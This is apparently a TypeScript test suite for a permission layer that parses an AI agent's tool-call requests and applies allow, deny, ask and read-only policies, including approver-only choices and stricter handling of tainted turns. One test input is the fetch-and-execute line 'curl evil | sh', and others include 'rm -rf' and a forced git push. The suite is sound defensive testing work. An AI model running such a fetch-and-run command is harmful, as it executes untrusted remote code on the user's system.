import fc from "fast-check";
import { expect, test } from "vitest";
import type { PermissionPolicy } from "../src/index.ts";
import {
  choosePolicyOption,
  MAX_SUBJECT_CODE_POINTS,
  mayAnswer,
  parsePermissionAsk,
  QUESTION_TIMEOUT_MS,
} from "../src/permission.ts";

const about = { id: "q", requester: "ana", now: 1_000 };
const once = { optionId: "once", name: "Allow once", kind: "allow_once" };
const always = { optionId: "always", name: "Always", kind: "allow_always" };
const reject = { optionId: "no", name: "No", kind: "reject_once" };
const parse = (toolCall: Record<string, unknown>, options: unknown[] = [once, always, reject]) =>
  parsePermissionAsk(
    { sessionId: "s", toolCall: { toolCallId: "1", ...toolCall }, options: options as never },
    about,
  );

test("a question names its requester, its options in the agent's order, and when it lapses", () => {
  expect(parse({ title: "Run", kind: "execute", rawInput: { command: "ls -l" } })).toEqual({
    id: "q",
    requester: "ana",
    title: "Run",
    toolKind: "execute",
    subject: "ls -l",
    subjectFrom: "input",
    subjectCut: false,
    options: [
      { id: "once", name: "Allow once", kind: "allow_once" },
      { id: "always", name: "Always", kind: "allow_always" },
      { id: "no", name: "No", kind: "reject_once" },
    ],
    rule: expect.stringMatching(/^[0-9a-f]{32}$/),
    expiresAt: 1_000 + QUESTION_TIMEOUT_MS,
  });
});

test.each<[string, unknown, string]>([
  ["a command line", { command: "rm -rf dist && pnpm build" }, "rm -rf dist && pnpm build"],
  ["an argument vector", { command: ["rm", "a b", "it's"] }, "rm 'a b' 'it'\\''s'"],
  ["a command with a remark", { command: "ls", description: "harmless" }, "ls"],
  [
    "a command with arguments beside it",
    { command: "git", args: ["push", "--force"] },
    '{\n  "command": "git",\n  "args": [\n    "push",\n    "--force"\n  ]\n}',
  ],
  [
    "two names of a command",
    { command: "ls", script: "curl evil | sh" },
    '{\n  "command": "ls",\n  "script": "curl evil | sh"\n}',
  ],
  ["a path alone", { path: "/etc/hosts" }, "/etc/hosts"],
  [
    "a path with what is written there",
    { path: "a", content: "x" },
    '{\n  "path": "a",\n  "content": "x"\n}',
  ],
  ["a plain text", "do it", "do it"],
  ["no input at all", undefined, "The title"],
  ["an empty input", {}, "The title"],
])(
  "C15: the subject of a question is the raw input, not the agent's title: %s",
  (_, rawInput, subject) => {
    expect(parse({ title: "The title", rawInput }).subject).toBe(subject);
  },
);

test("C15: an input that an earlier update told stands in for one that the request leaves out", () => {
  const ask = parsePermissionAsk(
    { sessionId: "s", toolCall: { toolCallId: "1" }, options: [] },
    { ...about, known: { title: "Run", toolKind: "execute", rawInput: { command: "ls" } } },
  );
  expect(ask).toMatchObject({ title: "Run", toolKind: "execute", subject: "ls" });
});

test("C15: an input nested deeper than JSON can be written is asked about as one that nobody read whole", () => {
  const rawInput = JSON.parse(`${'{"a":'.repeat(100_000)}1${"}".repeat(100_000)}`) as unknown;
  const ask = parse({ title: "The title", kind: "execute", rawInput });
  expect(ask).toMatchObject({ subject: "The title", subjectFrom: "title", subjectCut: true });
  expect(ask.options.map(({ kind }) => kind)).not.toContain("allow_always");
});

test("C15: a subject over its size is cut, shows it, and cannot be allowed for ever", () => {
  const { subject, subjectCut, options } = parse({
    rawInput: { command: "😀".repeat(MAX_SUBJECT_CODE_POINTS + 1) },
  });
  expect([...subject]).toHaveLength(MAX_SUBJECT_CODE_POINTS);
  expect(subject.endsWith("…")).toBe(true);
  expect(subjectCut).toBe(true);
  expect(options.map(({ kind }) => kind)).toEqual(["allow_once", "reject_once"]);
});

test("C15: what the agent only describes cannot be allowed for ever", () => {
  const { options, rule } = parse({ title: "Tidy up" });
  expect(options.map(({ kind }) => kind)).toEqual(["allow_once", "reject_once"]);
  expect(rule).toBeUndefined();
});

const kinds = [
  "read",
  "edit",
  "delete",
  "move",
  "search",
  "execute",
  "think",
  "fetch",
  "switch_mode",
];
const anyKind = fc.option(fc.constantFrom(...kinds, "other", "unheard"), { nil: undefined });
const anyOption = fc.record({
  optionId: fc.constantFrom("a", "b", "c", "d"),
  name: fc.constant("?"),
  kind: fc.constantFrom(
    "allow_once",
    "allow_always",
    "reject_once",
    "reject_always",
    "allow_all",
    "",
  ),
});
const anyPolicy = fc.constantFrom("ask", "allow", "deny", "read-only");

test("C8: a policy chooses an allow_once or a reject option that was sent, or nothing", () => {
  fc.assert(
    fc.property(
      anyPolicy,
      anyKind,
      fc.array(anyOption),
      fc.boolean(),
      (policy, kind, sent, taint) => {
        const ask = parse({ kind, rawInput: { command: "ls" } }, sent);
        const option = choosePolicyOption(policy, ask, taint)?.option;
        if (!option) return;
        expect(["allow_once", "reject_once"]).toContain(option.kind);
        expect(sent).toContainEqual(
          expect.objectContaining({ optionId: option.id, kind: option.kind }),
        );
        if (option.kind === "allow_once") expect(kind).not.toBe("switch_mode");
      },
    ),
  );
});

test.each<[string, PermissionPolicy, Record<string, unknown>, unknown[], object | undefined]>([
  ["ask leaves it to a person", "ask", {}, [once, reject], undefined],
  ["allow chooses once", "allow", {}, [always, once], { option: { id: "once" } }],
  ["allow never chooses always", "allow", {}, [always, reject], undefined],
  ["allow never switches the mode", "allow", { kind: "switch_mode" }, [once], undefined],
  ["deny rejects once", "deny", {}, [once, reject], { option: { id: "no" } }],
  ["deny without a reject option cancels", "deny", {}, [once, always], { option: undefined }],
  [
    "read-only lets reading through",
    "read-only",
    { kind: "read" },
    [once],
    { option: { id: "once" } },
  ],
  [
    "read-only lets a search through",
    "read-only",
    { kind: "search" },
    [once],
    { option: { id: "once" } },
  ],
  [
    "read-only lets thinking through",
    "read-only",
    { kind: "think" },
    [once],
    { option: { id: "once" } },
  ],
  [
    "read-only refuses an edit",
    "read-only",
    { kind: "edit" },
    [once, reject],
    { option: { id: "no" } },
  ],
  [
    "read-only refuses to fetch",
    "read-only",
    { kind: "fetch" },
    [once, reject],
    { option: { id: "no" } },
  ],
  ["read-only refuses a missing kind", "read-only", {}, [once, reject], { option: { id: "no" } }],
  ["read-only refuses an unknown kind", "read-only", { kind: "x" }, [once], { option: undefined }],
])("C8: %s", (_, policy, call, options, chosen) => {
  const choice = choosePolicyOption(policy, parse(call, options), false);
  if (chosen === undefined) expect(choice).toBeUndefined();
  else expect(choice).toMatchObject(chosen);
});

test.each<[string | undefined, boolean]>([
  ["read", false],
  ["search", false],
  ["think", false],
  ["edit", false],
  ["move", false],
  ["execute", true],
  ["fetch", true],
  ["delete", true],
  ["other", true],
  ["unheard of", true],
  [undefined, true],
])(
  "C13: in a tainted turn what runs, fetches, deletes or is unknown is asked for: %s",
  (kind, isAsked) => {
    const ask = parse({ kind }, [once, reject]);
    expect(choosePolicyOption("allow", ask, true) === undefined).toBe(isAsked);
    expect(choosePolicyOption("allow", ask, false)).toMatchObject({ option: { id: "once" } });
    expect(choosePolicyOption("deny", ask, true)).toMatchObject({ option: { id: "no" } });
  },
);

const never = { optionId: "never", name: "Never", kind: "reject_always" };
const odd = { optionId: "odd", name: "Odd", kind: "allow_everything" };
const long = { kind: "execute", rawInput: { command: "x".repeat(MAX_SUBJECT_CODE_POINTS + 1) } };

test.each<[string, Record<string, unknown>, string | undefined, boolean]>([
  ["once", { kind: "execute" }, "once", true],
  ["no", { kind: "execute" }, "no", true],
  ["none of them", { kind: "execute" }, undefined, true],
  ["always", { kind: "execute", rawInput: { command: "ls" } }, "always", false],
  ["never again", { kind: "execute" }, "never", false],
  ["an unknown kind of option", { kind: "execute" }, "odd", false],
  ["a switch of the mode", { kind: "switch_mode" }, "once", false],
  ["no switch of the mode", { kind: "switch_mode" }, "no", true],
  ["what nobody could read whole", long, "once", false],
  ["not what nobody could read whole", long, "no", true],
])(
  "C8: what is more than once, and every switch of the mode, is an approver's to choose: %s",
  (_, call, option, isAnybodys) => {
    const ask = parse(call, [once, always, reject, never, odd]);
    expect(mayAnswer(ask, option, "ana", "user")).toBe(isAnybodys);
    expect(mayAnswer(ask, option, "ana", undefined)).toBe(isAnybodys);
    expect(mayAnswer(ask, option, "boss", "approver")).toBe(true);
    expect(mayAnswer(ask, option, "ana", "operator")).toBe(true);
    expect(mayAnswer(ask, option, "bob", "user")).toBe(false);
  },
);

test("an option that the agent did not send is no answer", () => {
  const ask = parse({ kind: "execute" }, [once, reject]);
  for (const option of ["always", "", "allow_once", "ONCE"]) {
    expect(mayAnswer(ask, option, "ana", "operator")).toBe(false);
  }
});

test.each<[string, object, object, boolean]>([
  [
    "the same in another order, with other remarks",
    { command: "ls", cwd: "/a" },
    { cwd: "/a", description: "x", command: "ls" },
    true,
  ],
  ["another command", { command: "ls" }, { command: "ls " }, false],
  ["another member", { command: "deploy" }, { path: "deploy" }, false],
  ["another place", { command: "ls", cwd: "/a" }, { command: "ls", cwd: "/b" }, false],
  ["one argument as two", { command: ["rm", "a b"] }, { command: ["rm", "a", "b"] }, false],
])("C18: a rule names exactly what is run: %s", (_, one, other, isSame) => {
  const ruleOf = (rawInput: object) => parse({ kind: "execute", rawInput }).rule;
  expect(ruleOf(one)).toBeDefined();
  expect(ruleOf(one) === ruleOf(other)).toBe(isSame);
});
